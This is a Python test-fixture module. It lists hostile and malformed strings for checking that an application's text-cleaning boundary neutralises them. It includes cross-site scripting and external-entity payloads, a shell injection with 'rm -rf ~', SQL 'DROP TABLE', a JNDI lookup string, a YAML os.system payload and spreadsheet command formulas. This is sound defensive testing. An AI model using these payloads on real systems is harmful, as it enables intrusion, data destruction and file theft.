"""About a hundred texts that some program somewhere takes for something else than text."""

from app.domain.errors import DomainError
from app.domain.text import clean

CANARY = "CANARY.png"
"""A picture that markup asks for; nothing may ever open it."""
NESTED = "<table><tr><td>" * 400 + "x"
"""6 KB that hang a rich text engine for minutes."""

MARKUP = {
    "bold": "<b>bold</b>",
    "local picture": '<img src="/etc/hosts">',
    "canary": f'<img src="{CANARY}">',
    "canary by url": f"<img src='file:{CANARY}' width=9999 height=9999/>",
    "device": "<img src=/dev/zero>",
    "closed by itself": "<br/>",
    "nested tables": NESTED,
    "nested lists": "<ul><li>" * 300,
    "open comment": "<!-- never closed",
    "document": "<!DOCTYPE html><html><body bgcolor=red>x</body></html>",
    "entity bomb": '<!DOCTYPE a [<!ENTITY b "&c;&c;"><!ENTITY c "x">]><a>&b;</a>',
    "external entity": '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
    "cdata": "<![CDATA[ x ]]> ]]>",
    "processing instruction": "<?xml version='1.0'?>",
    "script": "<script>alert(1)</script>",
    "link": '<a href="file:///etc/passwd">x</a>',
    "handler": '" onload="alert(1)',
    "attribute": "'><svg onload=alert(1)>",
    "style": "<style>*{display:none}</style>",
    "qt": "<qt>guess</qt>",
    "entities": "&lt;b&gt; &amp;amp; &#60; &#x26; &nbsp;",
    "half an entity": "&#xZZ; & &; &unknown;",
    "paragraph of reportlab": '<para fontSize="500">x</para>',
    "font of reportlab": '<font name="None" size="-9">x</font>',
    "picture of reportlab": '<img src="file:/etc/hosts" width="10" height="10" valign="top"/>',
    "sequence of reportlab": '<seq id="x"/><onDraw name="y" label="z"/><index item="a"/>',
    "end of a tag": "</para></b></font></td></table>",
    "half a tag": "<img src=",
    "less and more": "1 < 2 > 0 && 3 <> 4",
    "markdown": "# not a heading\n* not a [list](file:///etc/passwd) `x` ![y](CANARY.png)",
    "tex": "\\input{/etc/passwd} $x_1$ % rest",
    "shell": "$(touch x) `id` ; rm -rf ~ | cat & ${HOME}",
    "sql": "'); DROP TABLE department;--",
    "format": "%s %d %n %(x)s {0} {x!r} {0.__class__}",
    "log lookup": "${jndi:ldap://example.org/x}",
    "json": '{"do": "remove_department", "id": "a"}',
    "json end": '"}, {"do": "undo"}',
    "json escape": "\\u0000 \\ud800 \\n \\\\",
    "yaml": "- !!python/object/apply:os.system [x]",
    "toml": '"""\n[stages]\nx = 1\n"""',
    "url": "https://example.org/?a=1&b=2#c",
    "address": "mailto:someone@example.org",
    "javascript": "javascript:alert(1)",
    "windows path": "C:\\Windows\\System32\\con",
    "share": "\\\\server\\share\\x",
    "path": "../../../../etc/passwd",
    "svg": '<svg xmlns="http://www.w3.org/2000/svg"><image href="CANARY.png"/></svg>',
    "graphml": '</data></node><node id="evil"/>',
    "pdf": "%PDF-1.7 1 0 obj << /S /JavaScript >> endobj (unbalanced \\ parens",
    "postscript": ") showpage (",
    "escape of a terminal": "\x1b[2J\x1b]0;title\x07",
    "mnemonic": "Sales && &Marketing & &",
}
FORMULAS = {
    "equals": "=1+1",
    "plus": "+1+1",
    "minus": "-1+1",
    "at": "@SUM(A1)",
    "tab": "\t=1+1",
    "return": "\r=1+1",
    "full width": "＝1+1",
    "blank before": "  =1+1",
    "apostrophe": "'=1+1",
    "hyperlink": '=HYPERLINK("http://example.org","x")',
    "other program": "=cmd|' /C calc'!A0",
    "function": "@NOW()",
    "array": "{=1+1}",
    "in the second line": "x\n=1+1",
    "quotation marks": '"=1+1"',
    "separators": 'a,b;c\td|"e""f"',
    "number": "1e9",
    "number of a kind": "-12,5 %",
    "true": "TRUE",
    "date": "3/4",
}
CONTROLS = {
    "nul": "a\x00b",
    "bell and backspace": "a\x07\x08b",
    "all controls": "".join(map(chr, (*range(32), *range(0x7F, 0xA0)))) + "x",
    "lone high surrogate": "a\ud800b",
    "lone low surrogate": "a\udfffb",
    "swapped surrogates": "\udc00\ud800x",
    "override": "\u202egnp.exe\u202c",
    "isolates": "\u2066x\u2069 \u2067y\u2069",
    "noncharacters": "a\ufffe\uffffb",
    "byte order mark": "\ufeffx",
    "line separator": "a\u2028b\u2029c\x85d\x0be\x0cf",
    "windows lines": "a\r\nb\rc",
    "soft hyphen": "a\u00adb",
    "zero width": "a\u200bb\u200cc\u200dd\u2060e",
    "direction marks": "a\u200eb\u200fc\u061cd",
    "annotations": "a\ufff9b\ufffac\ufffb",
    "tags": "a\U000e0041\U000e0042b",
    "filler": "a\u3164\u115f\u1160b",
    "no-break blanks": "a\u00a0b\u202fc\u2007d\u3000e",
}
SCRIPTS = {
    "emoji": "👍 😀 👩‍👩‍👧‍👦 🇳🇴 ❤️",
    "storm": "Z" + "\u0301\u0308\u0323\u0336" * 60 + "algo",
    "marks without a letter": "\u0301\u0302\u0303",
    "hebrew": "מחלקת הכספים",
    "arabic": "خدمة العملاء",
    "joined arabic": "لالالا ﷺ ﷽",
    "mixed directions": "abc אבג 123 (دهو) xyz",
    "decomposed": "u\u0308ber A\u030angstro\u0308m",
    "ligatures": "ﬁ ﬂ ĳ Ⅷ ½",
    "dotless": "ıİiI ſs ßẞ",
    "greek and cyrillic": "Ωμέγα Щука",
    "chinese": "漢字 仮名 한글",
    "thai": "น้ำแข็งละลาย",
    "devanagari": "क्षत्रिय",
    "mathematics": "𝕬𝖈𝖈𝖔𝖗𝖉 𝔘𝔫𝔦",
    "private use": "x\ue000\uf8ffy",
    "last of all": "x\U0010fffdy",
    "unassigned": "x\u0378\U000e0fffy",
    "old script": "𓀀𒀀",
}
SIZES = {
    "a word without an end": "w" * 1_900,
    "signs without an end": "<&>" * 600,
    "many words": "ab " * 600,
    "many short lines": "\n".join("x" * 900),
}
LARGEST = {
    "20,000 characters": "wörd " * 3_999 + "last!",
    "one word of 20,000": "&" * 20_000,
    "2,000 lines": "\n".join(f"line {n}" for n in range(2_000)),
    "20,000 of markup": ("<b><i>" * 3_400)[:20_000],
}
"""What only the longest fields hold."""

SHORT = MARKUP | FORMULAS | CONTROLS | SCRIPTS | SIZES
"""What a commitment of 2,000 characters can hold, once it is cut there."""


def kept(text: str, limit: int = 20_000) -> str:
    """Return what the boundary leaves of a text, cut to fit a field."""
    try:
        return clean(text, limit=limit)
    except DomainError:
        return clean(clean(text)[:limit])


def fitting(text: str, limit: int) -> str:
    """Return as much of a raw text as a field of `limit` characters can hold."""
    return text if len(kept(text)) <= limit else kept(text, limit)
